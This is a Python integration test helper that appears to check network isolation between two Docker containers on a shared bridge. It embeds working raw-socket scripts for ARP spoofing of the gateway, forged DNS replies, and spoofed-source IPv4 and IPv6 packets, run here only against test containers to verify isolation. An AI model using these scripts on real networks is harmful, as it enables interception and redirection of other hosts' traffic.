"""What two containers of one bridge do to each other below IP, on the agent of isolated_agent.py.

Both programs run in the network of a container, with all rights of root. So what holds here holds
for any program in it, whatever capabilities Docker gives.
"""

import json
import os
import random
import subprocess
import sys
import threading
from collections.abc import Mapping
from pathlib import Path

from docker.api import APIClient

from executor.container.containers import DockerContainers
from executor.docker.daemon import Daemon
from executor.network.preview_network import PreviewNetwork
from local.docker import containers as made_by
from tests.fakes.attempts import MemoryLog
from tests.fakes.containers import RecordingGuard
from tests.integration.docker.builds import TAG, World, making, removing_network
from tests.integration.docker.isolated_agent import (
    CLUSTER,
    CONFINED,
    INTERNET,
    NAMESERVER,
    WITHIN,
    run,
    spec,
)
from tests.waits import wait_until

FORGED = "203.0.113.66"
"""What the attacker answers for every name."""
OTHER = "198.51.100.77"
"""Another machine beside the agent."""

ATTACK = """
import json, socket, struct, sys, threading, time

victim, gateway, forged = map(socket.inet_aton, sys.argv[1:4])
ends = time.monotonic() + float(sys.argv[4])
port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
port.bind(("eth0", 0))
port.settimeout(0.2)
mine = port.getsockname()[4]
guessed = b"\\x02\\x42" + victim
arp = [struct.pack("!HHHBBH", 0x806, 1, 0x800, 6, 4, kind) for kind in (1, 2)]
claims = [
    to + mine + head + mine + gateway + to + victim
    for to in (b"\\xff" * 6, guessed) for head in arp
]
found = {"frames": 0, "queries": 0}

def sum16(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF

def answer(frame):
    head = frame[14 : 14 + (frame[14] & 15) * 4]
    udp, query = frame[14 + len(head) :][:8], frame[14 + len(head) + 8 :]
    if head[9] != 17 or head[12:16] != victim or udp[2:4] != b"\\0\\x35":
        return None
    found["queries"] += 1
    end = query.index(b"\\0", 12) + 5
    record = b"\\xc0\\x0c\\0\\1\\0\\1\\0\\0\\0\\1\\0\\4" + forged
    data = query[:2] + b"\\x81\\x80\\0\\1\\0\\1\\0\\0\\0\\0" + query[12:end] + record
    udp = udp[2:4] + udp[:2] + struct.pack("!HH", 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + head[16:20] + victim
    head = head[:10] + struct.pack("!H", sum16(head)) + head[12:]
    return frame[6:12] + mine + b"\\x08\\x00" + head + udp

def claim():
    while time.monotonic() < ends:
        for one in claims:
            port.send(one)
        time.sleep(0.05)

threading.Thread(target=claim, daemon=True).start()
while time.monotonic() < ends:
    try:
        frame = port.recv(65536)
    except TimeoutError:
        continue
    if frame[6:12] == mine or victim not in frame[:60]:
        continue
    if frame[6:12] == guessed:
        found["frames"] += 1
    if frame[12:14] == b"\\x08\\x00" and (made := answer(frame)):
        port.send(made)
print(json.dumps(found))
"""

FORGE = """
import socket, struct, sys

own, other, server, to_mac, link_local, port = sys.argv[1:]
device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
device.bind(("eth0", 0))
mine, gateway = device.getsockname()[4], bytes.fromhex(to_mac.replace(":", ""))

def sum16(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF

for source, text in ((own, b"own."), (other, b"forged")):
    udp = struct.pack("!HHHH", 9, int(port), 8 + len(text), 0) + text
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(server)
    head = head[:10] + struct.pack("!H", sum16(head)) + head[12:]
    device.send(gateway + mine + b"\\x08\\0" + head + udp)
source, to = (socket.inet_pton(socket.AF_INET6, one) for one in ("fe80::66", link_local))
udp = struct.pack("!HHHH", 9, int(port), 12, 0) + b"ipv6"
check = sum16(source + to + struct.pack("!II", len(udp), 17) + udp)
udp = udp[:6] + struct.pack("!H", check) + udp[8:]
ipv6 = struct.pack("!IHBB", 6 << 28, len(udp), 17, 64) + source + to
device.send(gateway + mine + b"\\x86\\xdd" + ipv6 + udp)
"""
"""Sends what a socket of a program cannot: with another's address, and IPv6 where there is none."""

LISTEN = """
import socket, sys

server = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
server.bind(("::", int(sys.argv[1])))
server.settimeout(3)
print("listens", flush=True)
try:
    while True:
        print(server.recv(64).decode(), flush=True)
except TimeoutError:
    pass
"""

VICTIM = """
import json, socket, sys, time

nameserver, gateway, ends = sys.argv[1], sys.argv[2], time.monotonic() + float(sys.argv[3])
query = b"\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\4test\\0\\0\\1\\0\\1"
answers, seen, number = set(), set(), 0
while time.monotonic() < ends:
    number += 1
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.settimeout(0.5)
    asking.sendto(number.to_bytes(2, "big") + query, (nameserver, 53))
    try:
        answers.add(socket.inet_ntoa(asking.recv(512)[-4:]))
    except TimeoutError:
        answers.add("none")
    asking.close()
    with open("/proc/self/net/arp") as table:
        seen |= {line.split()[3] for line in table if line.split()[0] == gateway}
    time.sleep(0.05)
print(json.dumps({"answers": sorted(answers), "gateway": sorted(seen)}))
"""
_SECONDS = 4.0


_PORT = 9998


def _within(pid: int, code: str, *arguments: str) -> subprocess.Popen[str]:
    command = ["nsenter", f"--net=/proc/{pid}/ns/net", sys.executable, "-c", code, *arguments]
    return subprocess.Popen(command, stdout=subprocess.PIPE, text=True)


def _bridge_of(gateway: str) -> Mapping[str, str]:
    """Return the hardware address and the link-local one of the agent's end of a network."""
    for link in json.loads(run("ip", "-json", "address")):
        local = [one["local"] for one in link["addr_info"]]
        if gateway in local:
            link_local = [one for one in local if one.startswith("fe80:")]
            return {"mac": link["address"], "link-local": next(iter(link_local), "")}
    raise AssertionError(f"no bridge has {gateway}")


def _forge(pid: int) -> Mapping[str, list[str]]:
    """Send forged packets from the network of a process; return what arrived where."""
    at = _addresses(pid)
    bridge = _bridge_of(at["gateway"])
    servers = {
        "outside": subprocess.Popen(
            ["nsenter", os.environ[WITHIN], sys.executable, "-c", LISTEN, str(_PORT)],
            stdout=subprocess.PIPE,
            text=True,
        ),
        "agent": _within(os.getpid(), LISTEN, str(_PORT)),
    }
    for server in servers.values():
        assert server.stdout is not None
        assert server.stdout.readline() == "listens\n"
    sent = (at["own"], OTHER, INTERNET, bridge["mac"], bridge["link-local"], str(_PORT))
    assert _within(pid, FORGE, *sent).wait() == 0
    return {name: server.communicate()[0].split() for name, server in servers.items()}


def _meet(victim: int, attacker: int) -> Mapping[str, object]:
    """Have the process `attacker` attack `victim` in their networks; return what became of both."""
    at = _addresses(victim)
    attacks = _within(attacker, ATTACK, at["own"], at["gateway"], FORGED, str(_SECONDS + 1))
    asks = _within(victim, VICTIM, NAMESERVER, at["gateway"], str(_SECONDS))
    told, seen = asks.communicate()[0], attacks.communicate()[0]
    bridge = _bridge_of(at["gateway"])["mac"]
    return {**json.loads(told), "attacker": json.loads(seen), "bridge": bridge}


def _addresses(pid: int) -> Mapping[str, str]:
    within = ("nsenter", f"--net=/proc/{pid}/ns/net", "ip", "-json", "-4")
    [found] = [one for one in json.loads(run(*within, "address")) if one["ifname"] == "eth0"]
    [route] = [one for one in json.loads(run(*within, "route")) if one["dst"] == "default"]
    return {"own": found["addr_info"][0]["local"], "gateway": route["gateway"]}


def _pid_of(mark: str) -> int | None:
    """Return the process of a step that was started with a mark as its last argument."""
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            words = (folder / "cmdline").read_bytes().split(b"\0")[:-1]
        except OSError:
            continue
        if words[:1] == [b"sleep"] and words[-1] == mark.encode():
            return int(folder.name)
    return None


def meet_in_builds(folder: Path, host: str) -> Mapping[str, object]:
    """Build two apps at once, and let a step of one attack a step of the other."""
    for name in ("victim", "attacker"):
        (folder / name).mkdir(parents=True)
    with (
        removing_network(host),
        making("buildkit", host, folder / "victim") as victim,
        making("buildkit", host, folder / "attacker") as attacker,
    ):
        attacker.app = "attacker"
        mark = random.randrange(10**5, 10**6)
        marks = {str(mark): victim, str(mark + 1): attacker}
        threads = [
            threading.Thread(target=_build, args=(world, mark)) for mark, world in marks.items()
        ]
        for thread in threads:
            thread.start()
        wait_until(lambda: None not in map(_pid_of, marks))
        pids = [int(_pid_of(mark) or 0) for mark in marks]
        found = {**_meet(*pids), "forged": _forge(pids[1])}
        for pid in pids:
            run("kill", "-TERM", str(pid))
        for thread in threads:
            thread.join()
    return {**found, "log": victim.log.headers}


def _build(world: World, mark: str) -> None:
    world.restart(CONFINED)
    world.build(f"RUN sleep {mark} || true", tag=f"{TAG}-{mark}")
    world.client.remove_image(f"{TAG}-{mark}", force=True)


def meet_in_previews(host: str) -> Mapping[str, object]:
    """Start two previews, and let one attack the other."""
    daemon = Daemon({"DOCKER_HOST": host})
    network = PreviewNetwork(CLUSTER, CONFINED)
    containers = DockerContainers(daemon, network, MemoryLog(), RecordingGuard())
    for name in ("server", "client"):
        containers.start(spec(name, 0), on_exit=lambda: None)
    try:
        return _meet(_pid(daemon.client(), "server"), _pid(daemon.client(), "client"))
    finally:
        made_by.remove_all(host, CLUSTER)


def _pid(client: APIClient, name: str) -> int:
    return int(client.inspect_container(f"prevs-{CLUSTER}-{name}")["State"]["Pid"])
